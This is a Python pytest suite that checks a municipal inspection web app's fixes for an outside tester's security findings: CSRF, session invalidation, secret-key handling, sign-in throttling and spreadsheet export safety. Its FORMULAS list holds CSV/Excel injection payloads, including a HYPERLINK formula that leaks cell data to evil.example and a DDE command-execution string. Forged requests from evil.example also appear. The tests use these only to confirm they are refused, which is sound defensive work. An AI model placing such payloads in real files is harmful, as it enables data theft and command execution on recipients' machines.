"""An outside tester's findings, each shown fixed: CSRF on the JSON API (from another port of the same host
and from another site, whatever the content type), sessions that end on sign-out and on a new password, the
instance's own secret key, sign-in that takes as long for unknown names and counts page and API together.

The CSRF and session tests run against a real gunicorn on loopback, as a browser would meet it."""
from __future__ import annotations

import csv
import io
import json
import logging
import stat
import urllib.error
import urllib.request
import uuid

import openpyxl
import pytest
from sqlalchemy import select

from inspection.db import make_engine, make_session_factory, upgrade
from inspection.demo.city import DEMO_PASSWORD, build_demo_city
from inspection.models import EntryToken, User
from inspection.operations.accounts import change_password
from tests.backends import fresh_database
from tests.servers import ROOT, Browser, Gunicorn, free_port
from web import ConfigurationError, auth, create_app
from web.exports import table_file

# -- a served platform ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def served(tmp_path_factory):
    folder = tmp_path_factory.mktemp("security")
    with fresh_database("sqlite", folder) as url:
        engine = make_engine(url)
        upgrade(engine)
        factory = make_session_factory(engine)
        with factory() as session:
            build_demo_city(session, seed=3, firms=40, plans=False, evidence_folder=folder / "evidence")
            session.commit()
        server = Gunicorn({"DATABASE_URL": url, "SECRET_KEY": "security-secret",
                           "INSPECTION_INSTANCE": str(folder / "instance")}, workers=1).start()
        try:
            yield server, factory
        finally:
            server.stop()
            engine.dispose()


def signed_in(base: str, username: str) -> Browser:
    browser = Browser(base)
    status, body = browser.call("POST", "/api/v1/session", {"username": username, "password": DEMO_PASSWORD})
    assert status == 200, body
    assert browser.csrf_token, "the sign-in hands out the CSRF token"
    return browser


def forged(browser: Browser, path: str, *, origin: str, site: str, body: bytes = b"",
           content_type: str = "application/x-www-form-urlencoded", method: str = "POST") -> tuple[int, dict]:
    """What an auto-submitting form on ``origin`` makes the browser send: the session cookie rides along,
    the CSRF header does not."""
    request = urllib.request.Request(browser.base + path, data=body, method=method, headers={
        "Content-Type": content_type, "Origin": origin, "Sec-Fetch-Site": site, "Sec-Fetch-Mode": "navigate"})
    try:
        with browser.opener.open(request, timeout=30) as response:
            return response.status, json.loads(response.read() or b"{}")
    except urllib.error.HTTPError as err:
        return err.code, json.loads(err.read() or b"{}")


def assert_csrf_refusal(status: int, body: dict) -> None:
    assert status == 403, body
    assert set(body) == {"error", "message", "fields"} and body["error"] == "csrf_failed"
    assert "安全令牌" in body["message"] or "其他网站" in body["message"]


def token_of(factory, uscc: str) -> str:
    with factory() as session:
        return session.scalar(select(EntryToken.token).join(EntryToken.firm)
                              .where(EntryToken.active.is_(True), EntryToken.firm.has(uscc=uscc)))


@pytest.mark.own_database
def test_a_form_from_another_port_or_site_cannot_write_through_the_api(served):
    server, factory = served
    firm = signed_in(server.url, "firm")
    uscc = firm.call("GET", "/api/v1/me")[1]["firm"]
    before = token_of(factory, uscc)
    other_port = f"http://127.0.0.1:{free_port()}"
    boundary = "----form" + uuid.uuid4().hex
    multipart = f"--{boundary}\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1\r\n--{boundary}--\r\n".encode()
    rotate = f"/api/v1/firms/{uscc}/code/rotate"
    for origin, site in ((other_port, "same-site"), ("http://evil.example", "cross-site")):
        assert_csrf_refusal(*forged(firm, rotate, origin=origin, site=site, body=b"a=1"))
        assert_csrf_refusal(*forged(firm, rotate, origin=origin, site=site, body=multipart,
                                    content_type=f"multipart/form-data; boundary={boundary}"))
        assert_csrf_refusal(*forged(firm, rotate, origin=origin, site=site, body=b"{}", content_type="text/plain"))
        assert_csrf_refusal(*forged(firm, "/api/v1/session", origin=origin, site=site, method="DELETE"))
    # Even from this very origin, a write without the header is refused: the header is what counts.
    assert_csrf_refusal(*forged(firm, rotate, origin=server.url, site="same-origin"))
    assert token_of(factory, uscc) == before
    assert firm.call("GET", "/api/v1/me")[0] == 200  # still signed in: nothing was done
    # The page's script sends the header: accepted.
    status, body = firm.call("POST", rotate)
    assert status == 200, body
    assert token_of(factory, uscc) != before
    # A header with a token of another session is no better than none.
    other = signed_in(server.url, "firm2")
    status, body = firm.call("POST", rotate, headers={"X-CSRFToken": other.csrf_token})
    assert_csrf_refusal(status, body)


@pytest.mark.own_database
def test_signing_in_from_another_origin_is_refused(served):
    server, _ = served
    body = json.dumps({"username": "market", "password": DEMO_PASSWORD}).encode()
    for origin, site in ((f"http://127.0.0.1:{free_port()}", "same-site"), ("http://evil.example", "cross-site"),
                         ("null", "cross-site")):
        assert_csrf_refusal(*forged(Browser(server.url), "/api/v1/session", origin=origin, site=site, body=body,
                                    content_type="application/json"))
    # A browser that says only where it comes from (Origin, no Sec-Fetch-Site) is judged by that.
    for origin in (f"http://127.0.0.1:{free_port()}", "http://evil.example"):
        request = urllib.request.Request(server.url + "/api/v1/session", data=body, method="POST",
                                         headers={"Content-Type": "application/json", "Origin": origin})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=30)
        assert_csrf_refusal(refused.value.code, json.loads(refused.value.read()))
    same = forged(Browser(server.url), "/api/v1/session", origin=server.url, site="same-origin", body=body,
                  content_type="application/json")
    assert same[0] == 200 and same[1]["username"] == "market"
    assert signed_in(server.url, "market")  # a program (no Origin) signs in too


@pytest.mark.own_database
def test_a_copied_cookie_dies_with_the_sign_out(served):
    server, _ = served
    for username in ("oversight", "inspector1"):
        browser = signed_in(server.url, username)
        copy = Browser(server.url)
        for cookie in browser.cookies:
            copy.cookies.set_cookie(cookie)
        assert copy.call("GET", "/api/v1/me")[0] == 200
        assert browser.call("DELETE", "/api/v1/session")[0] == 204
        status, body = copy.call("GET", "/api/v1/me")
        assert status == 401 and body["error"] == "unauthorized"
        assert browser.call("GET", "/api/v1/me")[0] == 401
        assert signed_in(server.url, username).call("GET", "/api/v1/me")[0] == 200  # a new sign-in works


@pytest.mark.own_database
def test_offline_records_signed_by_the_device_need_no_header(served):
    server, _ = served
    inspector = signed_in(server.url, "inspector1")
    inspector.csrf_token = ""
    status, body = inspector.call("POST", "/api/v1/offline/sync", {"records": []})
    assert status == 200 and body == {"results": []}
    assert_csrf_refusal(*inspector.call("POST", "/api/v1/devices", {"public_key": {}}))


# -- in process: the test client and the session's secrets ------------------------------------------

def test_the_test_client_sends_the_header_and_without_it_writes_are_refused(client, login):
    login("admin")
    client.send_csrf = False
    response = client.post("/api/v1/oversight/alerts/refresh")
    assert_csrf_refusal(response.status_code, response.get_json())
    response = client.post("/api/v1/oversight/alerts/refresh", headers={"X-CSRFToken": "forged"})
    assert response.status_code == 403
    client.send_csrf = True
    assert client.post("/api/v1/oversight/alerts/refresh").status_code == 200
    # Anonymous writes are not the header's business: they answer 401.
    client.delete("/api/v1/session")
    client.send_csrf = False
    assert client.post("/api/v1/oversight/alerts/refresh").status_code == 401


def test_signing_in_starts_a_new_session_with_a_new_csrf_secret(client, login):
    client.get("/login")  # an anonymous session with a CSRF secret, as the login page leaves it
    with client.session_transaction() as session:
        session["planted"] = "by someone else"
        before = session["csrf_token"]
    answer = client.post("/api/v1/session", json={"username": "market", "password": DEMO_PASSWORD})
    assert answer.status_code == 200 and answer.headers["X-CSRFToken"]
    with client.session_transaction() as session:
        assert "planted" not in session and session["csrf_token"] != before
        assert session[auth.SESSION_VERSION] == 0
    assert client.get("/api/v1/me").headers["X-CSRFToken"]


def test_page_sign_out_and_a_new_password_end_every_session(client, app, db_session, login):
    login("market")
    copy = app.test_client()
    copy.set_cookie("session", client.get_cookie("session").value)
    assert copy.get("/api/v1/me").status_code == 200
    assert client.post("/logout").status_code == 302
    assert copy.get("/api/v1/me").status_code == 401
    login("market")
    copy.set_cookie("session", client.get_cookie("session").value)
    assert copy.get("/api/v1/me").status_code == 200
    user = db_session.scalar(select(User).where(User.username == "market"))
    change_password(db_session, user, user, "another-password-1")
    db_session.commit()
    assert copy.get("/api/v1/me").status_code == 401 and client.get("/api/v1/me").status_code == 401
    assert client.post("/api/v1/session", json={"username": "market",
                                               "password": "another-password-1"}).status_code == 200


# -- the secret key -------------------------------------------------------------------------------

def test_without_a_configured_key_each_instance_makes_and_keeps_its_own(tmp_path, monkeypatch, caplog):
    monkeypatch.delenv("SECRET_KEY", raising=False)
    monkeypatch.delenv("INSPECTION_ENV", raising=False)
    keys = []
    for folder in ("one", "one", "two"):
        monkeypatch.setenv("INSPECTION_INSTANCE", str(tmp_path / folder))
        with caplog.at_level(logging.WARNING, logger="web.app"):
            app = create_app({"DATABASE_URL": "sqlite://"})
        keys.append(app.config["SECRET_KEY"])
        app.extensions["db_engine"].dispose()
    assert keys[0] == keys[1] != keys[2] and len(keys[0]) >= 40
    key_file = tmp_path / "one" / "secret_key"
    assert key_file.read_text().strip() == keys[0]
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert "SECRET_KEY 未设置" in caplog.text and str(key_file) in caplog.text
    assert sorted(p.name for p in (tmp_path / "one").iterdir()) == ["secret_key"]  # no draft left behind
    source = (ROOT / "web" / "app.py").read_text()
    assert "dev-only" not in source and "DEFAULT_SECRET" not in source


def test_production_still_refuses_to_start_without_a_key(tmp_path, monkeypatch):
    monkeypatch.setenv("INSPECTION_ENV", "production")
    monkeypatch.setenv("INSPECTION_INSTANCE", str(tmp_path))
    monkeypatch.delenv("SECRET_KEY", raising=False)
    with pytest.raises(ConfigurationError):
        create_app({"DATABASE_URL": "sqlite://"})
    assert not (tmp_path / "secret_key").exists()


# -- signing in -----------------------------------------------------------------------------------

def test_page_and_api_sign_in_share_one_count_per_account(limited, client, db_session):
    for n in range(10):
        if n % 2:
            assert client.post("/login", data={"username": "fire", "password": "wrong"}).status_code == 401
        else:
            assert client.post("/api/v1/session", json={"username": "fire", "password": "wrong"}).status_code == 401
    assert client.post("/login", data={"username": "fire", "password": "wrong"}).status_code == 429
    assert client.post("/api/v1/session", json={"username": "fire", "password": DEMO_PASSWORD}).status_code == 429


def test_an_unknown_name_costs_a_password_check_like_a_known_one(client, db_session, monkeypatch):
    checked = []
    real = auth.check_password_hash

    def spy(hash_, password):
        checked.append(hash_.split("$", 1)[0])
        return real(hash_, password)

    monkeypatch.setattr(auth, "check_password_hash", spy)
    assert client.post("/api/v1/session", json={"username": "nobody-" + uuid.uuid4().hex[:8],
                                                "password": "wrong"}).status_code == 401
    known = db_session.scalar(select(User.password_hash).where(User.username == "market"))
    assert checked == [known.split("$", 1)[0]]  # one check, with the algorithm and cost of real hashes


# -- exports --------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_text_cells_that_look_like_formulas_are_exported_as_text(app, client, login, db_session, make_firm, entered):
    firm = make_firm(FORMULAS[0])
    firm.address = FORMULAS[1]
    db_session.flush()
    entered(firm)
    login("admin")
    book = openpyxl.load_workbook(io.BytesIO(client.get("/admin/exports/firms.xlsx").data))
    row = next(r for r in book.active.iter_rows() if r[0].value == firm.uscc)
    assert [(c.value, c.data_type) for c in row[1:2] + row[6:7]] == [(FORMULAS[0], "s"), (FORMULAS[1], "s")]
    text = client.get("/admin/exports/firms.csv").data.decode("utf-8-sig")
    cells = next(r for r in csv.reader(io.StringIO(text)) if r[0] == firm.uscc)
    assert cells[1] == "'" + FORMULAS[0] and cells[6] == "'" + FORMULAS[1]
    login("oversight")
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/oversight/visits.xlsx?year=2026").data)).active
    name = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULAS[0])
    assert name.data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    text = client.get("/oversight/visits.csv?year=2026").data.decode("utf-8-sig")
    assert any(r[1] == "'" + FORMULAS[0] for r in csv.reader(io.StringIO(text)))


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(app):
    with app.test_request_context():
        xlsx = table_file("测试", ["文本", "数"], [[value, -5] for value in FORMULAS] + [["普通", -2.5]], "xlsx", "t")
        comma = table_file("测试", ["文本", "数"], [[value, -5] for value in FORMULAS], "csv", "t")
    xlsx.direct_passthrough = comma.direct_passthrough = False
    rows = list(openpyxl.load_workbook(io.BytesIO(xlsx.get_data())).active.iter_rows(min_row=2))
    # (XML reads a carriage return back as a line feed.)
    assert [(r[0].value, r[0].data_type) for r in rows[:-1]] == [(v.replace("\r", "\n"), "s") for v in FORMULAS]
    assert [(r[1].value, r[1].data_type) for r in rows] == [(-5, "n")] * len(FORMULAS) + [(-2.5, "n")]
    lines = list(csv.reader(io.StringIO(comma.get_data().decode("utf-8-sig"), newline="")))[1:]
    assert [line[0] for line in lines] == ["'" + value for value in FORMULAS]
    assert {line[1] for line in lines} == {"-5"}
